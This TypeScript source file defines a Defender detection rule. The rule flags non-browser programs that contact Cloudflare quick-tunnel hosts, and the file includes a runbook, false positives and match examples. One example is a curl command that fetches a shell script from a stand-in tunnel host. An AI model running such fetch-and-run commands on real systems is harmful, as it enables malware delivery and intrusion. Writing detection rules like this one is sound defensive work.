import type { Column } from "../../../defender/tables.ts";
import { all, any, type Condition, contains, equals, has, not } from "../../../detect/condition.ts";
import type { Rule } from "../../../detect/rule.ts";
import { browser, namedCloudflared } from "./conditions.ts";

/** The host name of a quick tunnel, not of the service that assigns them. */
function quickTunnelName(column: Column): Condition {
	return all(contains(column, ".trycloudflare.com"), not(has(column, "api.trycloudflare.com")), not(has(column, "www.trycloudflare.com")));
}

export const trycloudflareFetch: Rule = {
	id: "trycloudflare-fetch",
	title: "A program talks to a quick tunnel",
	family: "cloudflared",
	severity: "medium",
	set: "all",
	attack: ["T1105", "T1071.001"],
	meaning:
		"A program that is no browser reached somebody's quick tunnel. Such names live for hours and belong to nobody: malware is served and steered through them.",
	tables: ["DeviceProcessEvents", "DeviceNetworkEvents"],
	when: any(
		all(quickTunnelName("ProcessCommandLine"), not(browser("FileName")), not(namedCloudflared("FileName"))),
		all(
			any(quickTunnelName("RemoteUrl"), all(equals("InitiatingProcessFileName", ""), quickTunnelName("AdditionalFields"))),
			not(browser("InitiatingProcessFileName")),
			not(namedCloudflared("InitiatingProcessFileName")),
		),
	),
	runbook: [
		"Look in DeviceFileEvents of this device, next 10 minutes, for files written by the same InitiatingProcessId.",
		"Look in DeviceProcessEvents of this device, next 1 h, for children of this process.",
		"A row without a process comes from the network sensor: look in DeviceNetworkEvents, same minute, for RemoteIP with an InitiatingProcessFileName.",
	],
	falsePositives: ["Developers who test against a quick tunnel", "Chat programs that fetch a preview of a link"],
	references: ["https://attack.mitre.org/techniques/T1105/", "https://attack.mitre.org/techniques/T1071/001/"],
	examples: {
		match: [
			{ FileName: "curl", ProcessCommandLine: "curl -fsSL https://plain-example-words.trycloudflare.com/a.sh" },
			{ InitiatingProcessFileName: "python.exe", RemoteUrl: "plain-example-words.trycloudflare.com" },
			{ ActionType: "SslConnectionInspected", AdditionalFields: '{"server_name":"plain-example-words.trycloudflare.com"}' },
			{ FileName: "updater", ProcessCommandLine: "updater --feed=plain-example-words.trycloudflare.com" },
		],
		ignore: [
			{ FileName: "chrome.exe", ProcessCommandLine: "chrome.exe https://plain-example-words.trycloudflare.com/" },
			{ InitiatingProcessFileName: "firefox", RemoteUrl: "https://plain-example-words.trycloudflare.com/" },
			{ InitiatingProcessFileName: "x.exe", RemoteUrl: "https://api.trycloudflare.com/tunnel" },
			{ InitiatingProcessFileName: "chrome.exe", AdditionalFields: '{"server_name":"plain-example-words.trycloudflare.com"}' },
		],
	},
};
